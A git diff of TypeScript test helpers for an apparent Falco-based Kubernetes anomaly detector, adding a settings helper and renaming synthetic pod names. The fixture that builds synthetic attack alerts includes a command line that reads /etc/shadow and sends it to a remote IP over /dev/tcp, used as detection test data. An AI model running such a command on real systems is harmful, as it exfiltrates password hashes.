@@ -1,6 +1,7 @@
 import { readFileSync } from 'node:fs';
 import type { FalcoAlert } from '../../../contracts';
 import { FalcoAlertSchema } from '../../../contracts';
+import type { CoreSettings } from '../../../gate/core';
 import { GateCore, packEvents } from '../../../gate/core';
 import type { GateModel } from '../../../gate/model/gate-model';
 import { decodeGateModel, encodeGateModel } from '../../../gate/model/gate-model';
@@ -11,6 +12,11 @@ import { join } from 'node:path';
 export const BACKGROUND = join(ROOT, 'examples', 'gate-background.jsonl');
 export const REPLAY = join(ROOT, 'examples', 'gate-replay.jsonl');
 export const CRITICAL = ['kube-system', 'kube-public', 'kube-node-lease', 'vigil'];
+
+/** Core settings with a threshold override (or the model's own with undefined), the default floor and no suppressions. */
+export function coreSettings(anomalyThreshold: number | undefined, criticalNamespaces: readonly string[] = CRITICAL, extra: Partial<CoreSettings> = {}): CoreSettings {
+  return { anomalyThreshold, priorityFloor: 'Critical', criticalNamespaces, suppressions: [], ...extra };
+}
 
 export function jsonl(path: string): string[] {
   return readFileSync(path, 'utf8')
@@ -34,7 +40,7 @@ export function typicalBackground(maxScore = 0.5): string[] {
   const lines = jsonl(BACKGROUND);
   const model = demoModel();
   return lines.filter((line) => {
-    const core = new GateCore({ model, settings: { anomalyThreshold: 0, criticalNamespaces: CRITICAL }, maxEventBytes: 1 << 20, correlationWindowMs: 600_000 });
+    const core = new GateCore({ model, settings: coreSettings(0, CRITICAL), maxEventBytes: 1 << 20, correlationWindowMs: 600_000 });
     const [scored] = core.process(packEvents([Buffer.from(line)])).anomalies;
     return scored !== undefined && scored.anomaly.score < maxScore;
   });
@@ -88,7 +94,8 @@ export function mixedStream(opts: { benign: number; groups: number; seed: number
         output_fields: {
           ...shell.output_fields,
           'k8s.ns.name': 'kube-system',
-          'k8s.pod.name': `victim-${opts.seed}-${g}`,
+          // No dash before the numbers: `victim-1-0` would read as StatefulSet `victim-1`, one workload for every group.
+          'k8s.pod.name': `victim${opts.seed}g${g}`,
           'proc.name': `implant${g}`,
           'proc.pname': 'kworker',
           'proc.cmdline': `sh -c cat /etc/shadow > /dev/tcp/203.0.113.${g}/4444 # ${k}`,
